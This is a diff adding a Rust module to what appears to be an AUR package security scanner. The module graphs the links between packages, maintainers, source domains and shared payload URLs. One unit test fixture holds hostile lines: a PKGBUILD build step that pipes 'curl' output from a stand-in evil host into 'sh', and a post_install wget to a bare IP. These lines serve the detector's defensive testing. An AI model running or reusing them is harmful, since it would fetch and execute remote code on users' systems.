@@ -0,0 +1,357 @@
+use crate::coordinator::{self, Deadline};
+use crate::shared::bulk::{
+    batch_fetch_metadata, clone_with_retry, prefetch_maintainer_packages, prefetch_upstream,
+};
+use crate::shared::config::Config;
+use crate::shared::scoring::Tier;
+use crate::shared::trusted_domains::url_host;
+use indicatif::{ProgressBar, ProgressStyle};
+use rayon::prelude::*;
+use regex::Regex;
+use serde::Serialize;
+use std::collections::{BTreeMap, BTreeSet};
+use std::sync::LazyLock;
+
+/// `source=(...)` and arch-specific `source_x86_64=(...)` arrays.
+static SOURCE_ARRAY_RE: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?ms)^\s*source(?:_\w+)?=\((.*?)\)").unwrap()
+});
+
+static URL_RE: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"https?://[^\s'"()<>|;`]+"#).unwrap()
+});
+
+/// Output format for `traur graph`.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, clap::ValueEnum)]
+pub enum GraphFormat {
+    /// Graphviz DOT (also imported by Gephi)
+    #[default]
+    Dot,
+    /// Node and edge lists as JSON
+    Json,
+}
+
+/// What a scan contributes to the graph for one package.
+#[derive(Debug, Clone)]
+struct PackageLinks {
+    package: String,
+    tier: Tier,
+    score: u32,
+    maintainer: Option<String>,
+    /// Hosts in the `source=` arrays.
+    source_domains: BTreeSet<String>,
+    /// URLs fetched by build or install code rather than declared in `source=`.
+    payload_urls: BTreeSet<String>,
+}
+
+#[derive(Debug, Clone, Copy, Serialize, PartialEq, Eq)]
+#[serde(rename_all = "kebab-case")]
+enum NodeKind {
+    Package,
+    Maintainer,
+    Domain,
+    Url,
+}
+
+#[derive(Debug, Serialize)]
+struct Node {
+    id: String,
+    kind: NodeKind,
+    label: String,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    tier: Option<Tier>,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    score: Option<u32>,
+}
+
+#[derive(Debug, Serialize)]
+struct Edge {
+    source: String,
+    target: String,
+    /// `maintains`, `sources-from` or `fetches`.
+    kind: &'static str,
+}
+
+#[derive(Debug, Serialize, Default)]
+struct Graph {
+    nodes: Vec<Node>,
+    edges: Vec<Edge>,
+}
+
+/// Scan packages (all installed AUR packages if none are given) and print how they
+/// connect through maintainers, source domains and shared payload URLs.
+pub fn run(packages: Vec<String>, format: GraphFormat, jobs: usize, config: &Config) -> i32 {
+    let mut names = if packages.is_empty() {
+        match crate::get_installed_aur_packages() {
+            Ok(names) if names.is_empty() => {
+                eprintln!("No AUR packages installed.");
+                return 0;
+            }
+            Ok(names) => names,
+            Err(e) => {
+                eprintln!("Error: {e}");
+                return 1;
+            }
+        }
+    } else {
+        packages
+    };
+
+    eprintln!("  Fetching package metadata for {} packages...", names.len());
+    let metadata = batch_fetch_metadata(&names);
+    names.retain(|n| metadata.contains_key(n.as_str()));
+    let maintainer_packages = prefetch_maintainer_packages(&metadata, config);
+    let upstream = prefetch_upstream(&metadata, config);
+
+    let pool = rayon::ThreadPoolBuilder::new()
+        .num_threads(jobs)
+        .build()
+        .expect("Failed to build thread pool");
+
+    let pb = ProgressBar::new(names.len() as u64);
+    pb.set_style(
+        ProgressStyle::default_bar()
+            .template("[{elapsed_precise}] {bar:40.cyan/blue} {pos}/{len} ({per_sec})")
+            .unwrap()
+            .progress_chars("##-"),
+    );
+
+    let links: Vec<PackageLinks> = pool.install(|| {
+        names
+            .par_iter()
+            .filter_map(|name| {
+                let meta = metadata.get(name)?.clone();
+                let maint_pkgs = meta
+                    .maintainer
+                    .as_deref()
+                    .and_then(|m| maintainer_packages.get(m))
+                    .cloned()
+                    .unwrap_or_default();
+                let upstream_data = upstream.get(name).cloned().unwrap_or_default();
+                let maintainer = meta.maintainer.clone();
+
+                let deadline = Deadline::start(config);
+
+                let links = match clone_with_retry(name, meta, maint_pkgs, upstream_data, deadline, config) {
+                    Ok(ctx) => {
+                        let scan = coordinator::run_analysis_within(&ctx, config, deadline);
+                        let pkgbuild = ctx.pkgbuild_content.as_deref().unwrap_or("");
+                        let (source_domains, payload_urls) =
+                            extract_links(pkgbuild, ctx.install_script_content.as_deref());
+                        Some(PackageLinks {
+                            package: scan.package,
+                            tier: scan.tier,
+                            score: scan.score,
+                            maintainer,
+                            source_domains,
+                            payload_urls,
+                        })
+                    }
+                    Err(e) => {
+                        pb.suspend(|| eprintln!("  error: {name}: {e}"));
+                        None
+                    }
+                };
+                pb.inc(1);
+                links
+            })
+            .collect()
+    });
+
+    pb.finish_and_clear();
+
+    let graph = build_graph(links);
+    match format {
+        GraphFormat::Dot => print!("{}", render_dot(&graph)),
+        GraphFormat::Json => {
+            let json_str = serde_json::to_string_pretty(&graph).expect("Failed to serialize");
+            println!("{json_str}");
+        }
+    }
+
+    0
+}
+
+/// Source hosts (from `source=` arrays) and payload URLs (every other URL in the
+/// PKGBUILD or install script, except the `url=` homepage).
+fn extract_links(pkgbuild: &str, install: Option<&str>) -> (BTreeSet<String>, BTreeSet<String>) {
+    let mut source_domains = BTreeSet::new();
+    let mut source_urls = BTreeSet::new();
+    for caps in SOURCE_ARRAY_RE.captures_iter(pkgbuild) {
+        let Some(array) = caps.get(1) else {
+            continue;
+        };
+        for url in URL_RE.find_iter(array.as_str()) {
+            source_urls.insert(url.as_str());
+            if let Some(host) = url_host(url.as_str()) {
+                source_domains.insert(host);
+            }
+        }
+    }
+
+    let code = pkgbuild
+        .lines()
+        .filter(|line| !line.trim_start().starts_with("url="))
+        .chain(install.into_iter().flat_map(str::lines));
+    let payload_urls = code
+        .flat_map(|line| URL_RE.find_iter(line).map(|m| m.as_str()))
+        .filter(|url| !source_urls.contains(url))
+        .map(str::to_string)
+        .collect();
+
+    (source_domains, payload_urls)
+}
+
+/// Package, maintainer and domain nodes are always included. URL nodes only appear
+/// when two or more packages fetch the same URL — a lone payload URL adds no structure.
+fn build_graph(mut links: Vec<PackageLinks>) -> Graph {
+    links.sort_by(|a, b| a.package.cmp(&b.package));
+
+    let mut url_users: BTreeMap<&str, usize> = BTreeMap::new();
+    for pkg in &links {
+        for url in &pkg.payload_urls {
+            *url_users.entry(url).or_default() += 1;
+        }
+    }
+
+    let mut graph = Graph::default();
+    let mut maintainers = BTreeSet::new();
+    let mut domains = BTreeSet::new();
+    let mut urls = BTreeSet::new();
+
+    for pkg in &links {
+        let pkg_id = format!("pkg:{}", pkg.package);
+        graph.nodes.push(Node {
+            id: pkg_id.clone(),
+            kind: NodeKind::Package,
+            label: pkg.package.clone(),
+            tier: Some(pkg.tier),
+            score: Some(pkg.score),
+        });
+        if let Some(ref m) = pkg.maintainer {
+            maintainers.insert(m.clone());
+            graph.edges.push(Edge { source: format!("maintainer:{m}"), target: pkg_id.clone(), kind: "maintains" });
+        }
+        for domain in &pkg.source_domains {
+            domains.insert(domain.clone());
+            graph.edges.push(Edge { source: pkg_id.clone(), target: format!("domain:{domain}"), kind: "sources-from" });
+        }
+        for url in &pkg.payload_urls {
+            if url_users[url.as_str()] >= 2 {
+                urls.insert(url.clone());
+                graph.edges.push(Edge { source: pkg_id.clone(), target: format!("url:{url}"), kind: "fetches" });
+            }
+        }
+    }
+
+    for (kind, prefix, labels) in [
+        (NodeKind::Maintainer, "maintainer", maintainers),
+        (NodeKind::Domain, "domain", domains),
+        (NodeKind::Url, "url", urls),
+    ] {
+        for label in labels {
+            graph.nodes.push(Node {
+                id: format!("{prefix}:{label}"),
+                kind,
+                label,
+                tier: None,
+                score: None,
+            });
+        }
+    }
+
+    graph
+}
+
+fn render_dot(graph: &Graph) -> String {
+    let mut out = String::from("digraph traur {\n  rankdir=LR;\n");
+    for node in &graph.nodes {
+        let (shape, color) = match node.kind {
+            NodeKind::Package => ("box", node.tier.map(tier_color).unwrap_or("black")),
+            NodeKind::Maintainer => ("ellipse", "blue"),
+            NodeKind::Domain => ("diamond", "gray40"),
+            NodeKind::Url => ("note", "purple"),
+        };
+        out.push_str(&format!(
+            "  \"{}\" [label=\"{}\", shape={shape}, color={color}];\n",
+            dot_escape(&node.id),
+            dot_escape(&node.label),
+        ));
+    }
+    for edge in &graph.edges {
+        out.push_str(&format!(
+            "  \"{}\" -> \"{}\" [label=\"{}\"];\n",
+            dot_escape(&edge.source),
+            dot_escape(&edge.target),
+            edge.kind,
+        ));
+    }
+    out.push_str("}\n");
+    out
+}
+
+fn tier_color(tier: Tier) -> &'static str {
+    match tier {
+        Tier::Trusted => "darkgreen",
+        Tier::Ok => "goldenrod",
+        Tier::Sketchy => "orange",
+        Tier::Suspicious => "red",
+        Tier::Malicious => "darkred",
+    }
+}
+
+fn dot_escape(s: &str) -> String {
+    s.replace('\\', "\\\\").replace('"', "\\\"")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn links(package: &str, maintainer: &str, domains: &[&str], urls: &[&str]) -> PackageLinks {
+        PackageLinks {
+            package: package.to_string(),
+            tier: Tier::Ok,
+            score: 60,
+            maintainer: Some(maintainer.to_string()),
+            source_domains: domains.iter().map(|s| s.to_string()).collect(),
+            payload_urls: urls.iter().map(|s| s.to_string()).collect(),
+        }
+    }
+
+    #[test]
+    fn extracts_source_domains_and_payload_urls() {
+        let pkgbuild = "url=\"https://example.org\"\nsource=(\"foo::git+https://GitHub.com/foo/foo.git\"\n        \"https://user@dl.example.net:8443/foo.tar.gz\")\nsource_aarch64=(\"https://arm.example.net/foo.tgz\")\nbuild() {\n  curl -s https://evil.example.com/x.sh | sh\n}\n";
+        let install = "post_install() {\n  wget -q http://203.0.113.7/p\n}\n";
+        let (domains, urls) = extract_links(pkgbuild, Some(install));
+        let domains: Vec<&str> = domains.iter().map(String::as_str).collect();
+        assert_eq!(domains, ["arm.example.net", "dl.example.net", "github.com"]);
+        let urls: Vec<&str> = urls.iter().map(String::as_str).collect();
+        assert_eq!(urls, ["http://203.0.113.7/p", "https://evil.example.com/x.sh"]);
+    }
+
+    #[test]
+    fn only_shared_payload_urls_become_nodes() {
+        let graph = build_graph(vec![
+            links("foo", "alice", &["github.com"], &["https://x.example/p.sh", "https://y.example/a"]),
+            links("bar", "alice", &["github.com"], &["https://x.example/p.sh"]),
+        ]);
+        let urls: Vec<&str> = graph
+            .nodes
+            .iter()
+            .filter(|n| n.kind == NodeKind::Url)
+            .map(|n| n.label.as_str())
+            .collect();
+        assert_eq!(urls, ["https://x.example/p.sh"]);
+        assert_eq!(graph.nodes.iter().filter(|n| n.kind == NodeKind::Maintainer).count(), 1);
+        assert_eq!(graph.edges.iter().filter(|e| e.kind == "fetches").count(), 2);
+    }
+
+    #[test]
+    fn dot_output_escapes_labels() {
+        let graph = build_graph(vec![links("foo", "al\"ice", &[], &[])]);
+        let dot = render_dot(&graph);
+        assert!(dot.starts_with("digraph traur {"));
+        assert!(dot.contains("\"maintainer:al\\\"ice\" -> \"pkg:foo\""));
+    }
+}